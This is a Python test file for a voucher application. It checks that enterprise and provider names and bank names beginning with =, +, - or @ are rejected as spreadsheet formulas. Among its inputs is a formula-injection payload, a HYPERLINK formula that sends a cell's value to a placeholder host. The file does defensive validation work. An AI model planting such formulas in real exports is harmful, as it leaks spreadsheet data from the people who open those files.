"""Names that end up in exports and bank files refuse a leading spreadsheet formula character
(= + - @; a leading tab or line break is stripped first): enterprise name and bank, provider name
and bank; the message names the field, nothing is saved."""
from __future__ import annotations

from decimal import Decimal

import pytest

from tests.factories import valid_uscc
from voucher.enterprises import services
from voucher.enterprises.models import Organisation
from voucher.errors import ValidationFailed
from voucher.extensions import db


def _enterprise(**overrides) -> services.EnterpriseInput:
    values = dict(name="温州泵阀有限公司", uscc=valid_uscc(4301), district="lucheng", industry="pumps_valves",
                  employees=50, annual_revenue=Decimal("5000000"), industrial_park=None, contact_name="王",
                  contact_phone="0577-1234567", bank_name="温州银行", bank_account="62220000111122")
    values.update(overrides)
    return services.EnterpriseInput(**values)


@pytest.mark.parametrize("field,value", [("name", '=HYPERLINK("http://x/?"&B3,"x")'), ("name", "+86 公司"),
                                         ("name", "-公司"), ("name", "@公司"), ("bank_name", "=银行")])
def test_registering_an_enterprise_refuses_a_formula_name(ctx, make_user, field, value):
    user = make_user("sme")
    with pytest.raises(ValidationFailed) as err:
        services.register_enterprise(user.actor(), _enterprise(**{field: value}))
    assert set(err.value.fields) == {field}
    assert "formula" in err.value.fields[field]
    assert db.session.get(type(user), user.id).organisation_id is None


def test_editing_an_enterprise_refuses_a_formula_name(ctx, make_org, make_user):
    org = make_org("enterprise")
    user = make_user("sme", organisation=org)
    data = services.enterprise_input_from(org)
    with pytest.raises(ValidationFailed) as err:
        services.update_enterprise(user.actor(), org.id, services.EnterpriseInput(
            **{**data.__dict__, "name": "=SUM(1,1)"}))
    assert set(err.value.fields) == {"name"}
    assert db.session.get(Organisation, org.id).name != "=SUM(1,1)"


def test_a_provider_cannot_rename_itself_to_a_formula(ctx, make_org, make_user):
    org = make_org("provider")
    user = make_user("provider", organisation=org)
    data = services.ProviderProfileInput(name="=SUM(1,1)", uscc=org.uscc, description=None, contact_name="李",
                                         contact_phone="0577-7654321", bank_name="@bank",
                                         bank_account="62220000333344")
    with pytest.raises(ValidationFailed) as err:
        services.update_provider_profile(user.actor(), data)
    assert set(err.value.fields) == {"name", "bank_name"}
    assert db.session.get(Organisation, org.id).name != "=SUM(1,1)"


def test_an_ordinary_name_with_a_sign_inside_is_accepted(ctx, make_user):
    user = make_user("sme")
    org = services.register_enterprise(user.actor(), _enterprise(name="温州A+B泵阀有限公司", uscc=valid_uscc(4302)))
    assert org.name == "温州A+B泵阀有限公司"


def test_the_registration_page_marks_the_name_field_and_saves_nothing(ctx, make_user, login):
    from tests.enterprises.conftest import counts, field_error, form_data

    client = login(make_user("sme"))
    before = counts()
    response = client.post("/enterprise", data=form_data(name='=HYPERLINK("http://x/?"&B3,"x")'))
    assert response.status_code == 422
    assert "公式" in field_error(response.get_data(as_text=True), "name")  # the Chinese message, on the field
    assert counts() == before
